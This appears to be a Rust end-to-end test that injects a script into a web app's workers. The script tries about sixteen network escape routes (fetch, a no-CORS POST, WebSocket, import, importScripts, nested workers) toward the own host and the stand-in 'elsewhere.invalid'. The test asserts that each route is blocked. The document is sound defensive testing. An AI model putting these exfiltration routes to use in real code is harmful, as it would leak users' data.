//! What is loaded stays in the tab: whatever runs in the worker or its threads, nothing of it reaches a network.
//!
//! Code that tries is put into the worker's own script here, before anything of it runs and after all of it has started.
#![cfg(all(feature = "e2e", not(target_arch = "wasm32")))]
#![allow(clippy::unwrap_used, clippy::expect_used)] // here a panic is the report

mod common;
use common::app::App;
use serde_json::Value;

/// What each thread has before it gives anything up: the strictest test of its policy.
const BEFORE: &str = "const before = Object.fromEntries([
    'fetch', 'XMLHttpRequest', 'WebSocket', 'WebSocketStream', 'WebTransport', 'EventSource', 'FontFace', 'Worker', 'caches', 'importScripts',
].map(name => [name, self[name]]));";

/// Tries every way out with it, to an address of the own host and to one of another, and tells the page how each ended; then what is left
/// of the names.
const TRIES: &str = "(async () => {
    const refusal = (request, failing = 'error', working = 'load') => new Promise((done, failed) => {
        request.addEventListener(failing, () => failed(new Error('refused')));
        request.addEventListener(working, done);
    });
    const ways = {
        fetch: address => before.fetch.call(self, address),
        'fetch without CORS': address => before.fetch.call(self, address, { mode: 'no-cors', method: 'POST', body: 'figures' }),
        XMLHttpRequest: address => {
            const request = new before.XMLHttpRequest();
            request.open('GET', address);
            const ended = refusal(request);
            request.send();
            return ended;
        },
        WebSocket: address => refusal(new before.WebSocket(address.replace('http', 'ws')), 'error', 'open'),
        WebSocketStream: address => new before.WebSocketStream(address.replace('http', 'ws')).opened,
        WebTransport: address => new before.WebTransport(address.replace('http:', 'https:')).ready,
        EventSource: address => refusal(new before.EventSource(address), 'error', 'open'),
        'import()': address => import(address),
        'import() of a blob': () => import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))),
        importScripts: async address => before.importScripts(address),
        'caches.add': async address => (await before.caches.open('tried')).add(address),
        FontFace: address => new before.FontFace('tried', `url(${address})`).load(),
        Worker: address => refusal(new before.Worker(address), 'error', 'message'),
        'a module worker': address => refusal(new before.Worker(address, { type: 'module' }), 'error', 'message'),
        \"another thread's constructor\": address => {
            const Made = (self.reader ?? null).constructor;
            if (!('postMessage' in Made.prototype)) throw new Error('no thread');
            return refusal(new Made(address), 'error', 'message');
        },
        eval: async () => (0, eval)('1'),
    };
    const own = new URL('leak/', location.href.replace('blob:', '')).href;
    const outcomes = {};
    for (const [way, go] of Object.entries(ways)) {
        for (const host of [own, 'http://elsewhere.invalid/leak/']) {
            const late = new Promise(done => setTimeout(done, 5000, 'no refusal'));
            const outcome = await Promise.race([late, (async () => go(host + encodeURIComponent(way)))().then(() => 'worked', () => 'refused')]);
            if (outcome !== 'refused') outcomes[`${way} to ${host}`] = outcome;
        }
    }
    const kept = Object.keys(before).filter(name => name in self);
    new BroadcastChannel('tried').postMessage({ thread: self.name, tried: Object.keys(ways).length, outcomes, kept });
})();";

/// Puts them around the script of every worker that the page makes from a blob, and listens.
fn with_tries() -> String {
    format!(
        "(() => {{
            const addressOf = URL.createObjectURL;
            URL.createObjectURL = (blob) => addressOf.call(URL,
                blob.type.includes('javascript') ? new Blob([{before}, blob, {tries}], {{ type: 'text/javascript' }}) : blob);
            if (window !== top) return;
            globalThis.tried = [];
            new BroadcastChannel('tried').onmessage = ({{ data }}) => tried.push(data);
        }})()",
        before = serde_json::json!(BEFORE),
        tries = serde_json::json!(TRIES),
    )
}

#[test]
fn nothing_that_runs_in_the_worker_or_its_threads_reaches_a_network() {
    let app = App::open();
    app.before_it_starts(&with_tries());
    app.reload();
    app.until("all four threads to have tried", || {
        app.evaluate("tried.length") == 4
    });
    let tried = app.evaluate("tried");
    let mut threads: Vec<&str> = Vec::new();
    for thread in tried.as_array().unwrap() {
        assert_eq!(thread["outcomes"], serde_json::json!({}), "{thread}");
        assert_eq!(thread["tried"], 16);
        // The second line: the names are gone as well.
        assert_eq!(thread["kept"], serde_json::json!([]), "{thread}");
        threads.push(thread["thread"].as_str().unwrap());
    }
    threads.sort_unstable();
    // The worker's own name is new each time; the helper has a reader as well.
    assert!(
        threads.remove(1).starts_with("outturn-worker-"),
        "{threads:?}"
    );
    assert_eq!(threads, ["helper", "reader", "reader"]);
    nothing_leaked(&app);
}

/// Neither server nor browser saw a request of those that were tried; both do see the page's own.
fn nothing_leaked(app: &App) {
    app.evaluate("fetch('seen/leak').then(() => undefined)");
    let leaks = |requests: Vec<String>| -> Vec<String> {
        let leak = |request: &String| request.contains("leak");
        requests.into_iter().filter(leak).collect()
    };
    assert_eq!(leaks(app.own_requests()), ["seen/leak"]);
    let requested = leaks(app.requests());
    assert_eq!(requested.len(), 1, "{requested:?}");
}

/// Keeps what the page warns of on the console.
const WARNED: &str =
    "globalThis.warned = []; console.warn = (...said) => warned.push(said.join(' '))";

#[test]
fn the_worker_is_confined_without_a_word() {
    let app = App::open();
    app.before_it_starts(WARNED);
    app.reload();
    app.click("button", "Load sample: Leading indicators, three years");
    app.click("link", "Scorecard");
    assert_eq!(app.evaluate("warned"), Value::Array(Vec::new()));
    app.was_quiet();
}

#[test]
fn where_the_worker_cannot_be_confined_it_runs_all_the_same_and_the_console_says_so() {
    let app = App::open();
    app.before_it_starts(WARNED);
    app.before_it_starts("if (window !== top) delete window.Worker");
    app.reload();
    app.click("button", "Load sample: Leading indicators, three years");
    app.click("link", "Scorecard");
    let warned = app.evaluate("warned");
    assert_eq!(warned.as_array().unwrap().len(), 1, "{warned}");
    assert!(
        warned[0]
            .as_str()
            .unwrap()
            .contains("without access to the network"),
        "{warned}"
    );
    // So do the programs that are loaded on demand.
    app.choose_files(&["tests/data/workbook_libreoffice.xls"]);
    app.click("link", "Data");
    app.sees("How it was read: Excel 97–2003 workbook");
    app.click("link", "Report");
    app.click("button", "Snapshot (JSON)");
    app.downloads_eventually(".outturn.json");
    app.was_quiet();
}
